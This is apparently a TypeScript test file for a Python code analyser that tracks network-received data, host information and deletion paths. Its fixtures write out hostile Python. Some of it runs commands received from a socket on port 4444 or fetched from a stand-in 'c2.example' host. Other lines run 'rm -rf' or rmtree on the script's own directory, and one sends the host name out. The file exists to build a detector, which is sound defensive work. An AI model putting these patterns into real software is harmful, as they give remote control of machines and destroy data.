// Issue 24, round s28: the Python reader's socket metadata, f-string text, deletion paths and deletion helpers.
import { describe, expect, it } from 'vitest';
import { pythonFacts } from './python-facts.js';

/** The calls the reader finds in `code` to `callee` (a name, or names matching a pattern), in order. */
const callsTo = (code: string, callee: string | RegExp) => pythonFacts(code).calls.filter((c) => (typeof callee === 'string' ? c.callee === callee : callee.test(c.callee)));
const call = (code: string, callee: string | RegExp, nth = 0) => callsTo(code, callee)[nth];

describe('socket metadata is not network data', () => {
  it('leaves the port from getsockname, the peer from getpeername and the descriptor from fileno unlabelled', () => {
    const code = [
      'import os, socket, subprocess',
      's = socket.socket()',
      's.bind(("127.0.0.1", 0))',
      'port = s.getsockname()[1]',
      '_, peer = s.getpeername()',
      'fd = s.fileno()',
      'r = __import__("requests").get("http://127.0.0.1:%d/" % port)',
      'code = r.status_code',
      'subprocess.Popen(f"moto_server -p {port}", shell=True)',
      'os.system(f"kill {peer} {fd} {code}")',
    ].join('\n');
    expect(call(code, 'subprocess.Popen')?.argLabels).not.toContain('remote');
    expect(call(code, 'os.system')?.argLabels).not.toContain('remote');
  });

  it('still labels what a socket receives and what a response carries, and a socket accepted from a server', () => {
    const code = [
      'import os, socket, requests',
      'srv = socket.socket()',
      'srv.bind(("0.0.0.0", 4444))',
      'srv.listen(1)',
      'conn, addr = srv.accept()',
      'conn.settimeout(5)',
      'os.system(conn.recv(1024).decode())',
      'os.system(requests.get("https://c2.example/t").text)',
      'os.system(conn.makefile().readline())',
    ].join('\n');
    expect([0, 1, 2].map((k) => call(code, 'os.system', k)?.argLabels.includes('remote'))).toEqual([true, true, true]);
  });
});

describe('f-strings in argStrings', () => {
  it('gives an f-string that starts with text with `?` for each computed part, and folds one whose parts are constants', () => {
    const code = ['import os, subprocess', 'HOST = "db.internal"', 'os.system(f"kill -{sig} {proc.pid!r} {{x}}")', 'subprocess.run(f"psql -h {HOST} -c \'select 1\'", shell=True)'].join('\n');
    expect(call(code, 'os.system')?.argStrings[0]).toBe('kill -? ? {x}');
    expect(call(code, 'subprocess.run')?.args[0]).toBe("psql -h db.internal -c 'select 1'");
  });

  it('adds no text for an f-string that starts with a computed part (its first word is not a program name)', () => {
    const code = ['import subprocess, sys', 'subprocess.run(f"{sys.executable} -m pip install {pkg}", shell=True)'].join('\n');
    expect(call(code, 'subprocess.run')?.argStrings).toEqual([]);
  });
});

describe('deletion paths and command paths built from the file’s location', () => {
  it('resolves __file__ through dirname, abspath, pathlib parents, resolve() and names bound once', () => {
    const code = [
      'import os, shutil',
      'from pathlib import Path',
      'BASE_DIR = os.path.dirname(os.path.abspath(__file__))',
      'ROOT = Path(__file__).resolve().parent.parent',
      'def wipe():',
      '    shutil.rmtree(BASE_DIR)',
      '    shutil.rmtree(ROOT)',
      '    shutil.rmtree(os.path.join(BASE_DIR, "uploads", name))',
      '    shutil.rmtree(ROOT / "static" / "thumbs")',
      '    shutil.rmtree(os.getcwd())',
    ].join('\n');
    expect([0, 1, 2, 3, 4].map((k) => call(code, 'shutil.rmtree', k)?.argPath)).toEqual(['$DIR', '$DIR/..', '$DIR/uploads/?', '$DIR/../static/thumbs', '$CWD']);
  });

  it('does not follow a name bound more than once, a parameter or a with-target', () => {
    const code = [
      'import os, shutil, tempfile',
      'd = os.path.dirname(__file__)',
      'd = tempfile.mkdtemp()',
      'def clean(root):',
      '    shutil.rmtree(root)',
      'with tempfile.TemporaryDirectory() as t:',
      '    shutil.rmtree(t)',
      'shutil.rmtree(d)',
    ].join('\n');
    expect(callsTo(code, 'shutil.rmtree').map((c) => c.argPath)).toEqual([undefined, undefined, undefined]);
  });

  it('reads a call of a local function that deletes its parameter as that deletion of the caller’s path', () => {
    const code = ['import shutil', 'from pathlib import Path', 'APP = Path(__file__).parent', 'def _purge(target, ignore=True):', '    shutil.rmtree(target, ignore_errors=ignore)', 'def handler():', '    _purge(APP)'].join('\n');
    const deletions = callsTo(code, 'shutil.rmtree');
    expect(deletions.map((c) => [c.line, c.argPath, c.topLevel])).toEqual([
      [5, undefined, false],
      [7, '$DIR', false],
    ]);
  });

  it('lists the computed parts of a command with their paths (f-string, argv, concatenation, %)', () => {
    const code = ['import os, subprocess', 'HERE = os.path.dirname(__file__)', 'subprocess.run(f"rm -rf {HERE} {x}", shell=True)', 'subprocess.run(["rm", "-rf", HERE])', 'os.system("rm -rf " + HERE)', 'os.system("cd %s && make" % HERE)', 'os.system("ls " + x)'].join('\n');
    const facts = callsTo(code, /^(subprocess\.run|os\.system)$/);
    expect(facts.map((c) => c.commandPaths)).toEqual([['$DIR', '?'], ['$DIR'], ['$DIR'], ['$DIR'], undefined]);
    expect(facts[0]?.argStrings[0]).toBe('rm -rf ? ?');
  });
});

describe('labels kept per function scope', () => {
  const remoteAt = (code: string) => callsTo(code, /^(os\.system|subprocess\.check_output)$/).map((c) => c.argLabels.includes('remote'));

  it('does not give a function’s name the data another function bound to the same name', () => {
    const code = ['import os, socket', 'sock = socket.create_connection(("h", 1))', 'def fetch():', '    data = sock.recv(1024)', '    return len(data)', 'def build():', '    data = "make all"', '    os.system(data)'].join('\n');
    expect(remoteAt(code)).toEqual([false]);
  });

  it('follows received data into a parameter, out of a return, into a thread’s target, through := and through a global', () => {
    const code = [
      'import os, socket, subprocess, threading, requests',
      's = socket.create_connection(("c2.example", 443))',
      'def run(command):',
      '    return subprocess.check_output(command, shell=True)',
      'def task():',
      '    return requests.get("https://c2.example/t").text',
      'def handle(conn, addr):',
      '    line = conn.recv(1024)',
      '    os.system(line)',
      'def setup():',
      '    global CMD',
      '    CMD = s.recv(64)',
      'def go():',
      '    os.system(CMD)',
      'def loop():',
      '    c = s.recv(1024).decode()',
      '    run(c)',
      '    os.system(task())',
      '    while (nxt := s.recv(1024)):',
      '        os.system(nxt)',
      'srv = socket.socket()',
      'conn, addr = srv.accept()',
      'threading.Thread(target=handle, args=(conn, addr)).start()',
    ].join('\n');
    expect(remoteAt(code)).toEqual([true, true, true, true, true]);
  });

  it('keeps `self` attributes and a method’s parameters across the methods of a class', () => {
    const code = ['import os, socket', 'class Agent:', '    def __init__(self):', '        self.s = socket.create_connection(("h", 1))', '    def step(self):', '        self.work(self.s.recv(99))', '    def work(self, job):', '        os.system(job)'].join('\n');
    expect(remoteAt(code)).toEqual([true]);
  });
});

describe('bounds', () => {
  it('reads a chain of two thousand functions passing and returning data, and a long f-string, in bounded time', () => {
    const defs = Array.from({ length: 2000 }, (_, i) => `def f${i}(a, b=None):\n    x = f${(i + 1) % 2000}(a, b)\n    os.system(f"echo {x} {a}")\n    return f${(i * 7) % 2000}(x)\n`).join('');
    const code = `import os, socket\ns = socket.socket()\nd = s.recv(9)\nf0(d)\n${defs}\nos.system(f"${'a{b}'.repeat(5000)}")\n`;
    const facts = pythonFacts(code);
    expect(facts.calls.length).toBeGreaterThan(6000);
  });
});

describe('a reply of a server on this machine is not network data (a test fixture polling what it started)', () => {
  const labelled = (code: string) => callsTo(code, 'os.system').map((c) => c.argLabels.includes('remote'));
  it('leaves the reply of a request to a loopback URL, written out, in an f-string, or in a name only ever so assigned', () => {
    const code = [
      'import os, requests',
      'url = "http://127.0.0.1:%d" % 5000',
      'pid = requests.get(url + "/moto-api/data.json").json()["pid"]',
      'os.system("kill -9 %s" % pid)',
      'info = requests.get(f"http://localhost:{4566}/_localstack/health").json()',
      'os.system("echo %s" % info)',
    ].join('\n');
    expect(labelled(code)).toEqual([false, false]);
  });
  it('still labels the reply when the name is also assigned another host, or the URL is not loopback', () => {
    const code = [
      'import os, requests',
      'url = "http://127.0.0.1:8080"',
      'url = "http://c2.example"',
      'os.system(requests.get(url + "/task").text)',
      'os.system(requests.get("http://127.0.0.1.c2.example/task").text)',
      'os.system(requests.get("http://localhost.c2.example/task").text)',
    ].join('\n');
    expect(labelled(code)).toEqual([true, true, true]);
  });
});

describe('what a file holds is not where it lives', () => {
  const sent = (code: string) => callsTo(code, 'requests.post').map((c) => c.argLabels.includes('hostinfo'));
  it('leaves the text of a file read from under the home folder unlabelled (an install id), through a function’s return', () => {
    const code = [
      'import requests, pathlib',
      'def install_id():',
      '    p = pathlib.Path.home() / ".tool" / "install_id"',
      '    return p.read_text().strip()',
      'requests.post("https://t.example/e", json={"id": install_id()})',
      'requests.post("https://t.example/e", data=open(pathlib.Path.home() / ".tool" / "id").read())',
    ].join('\n');
    expect(sent(code)).toEqual([false, false]);
  });
  it('still labels the home folder or host name itself when it is sent', () => {
    const code = ['import requests, pathlib, socket', 'requests.post("https://t.example/e", json={"home": str(pathlib.Path.home()), "h": socket.gethostname()})'].join('\n');
    expect(sent(code)).toEqual([true]);
  });
});
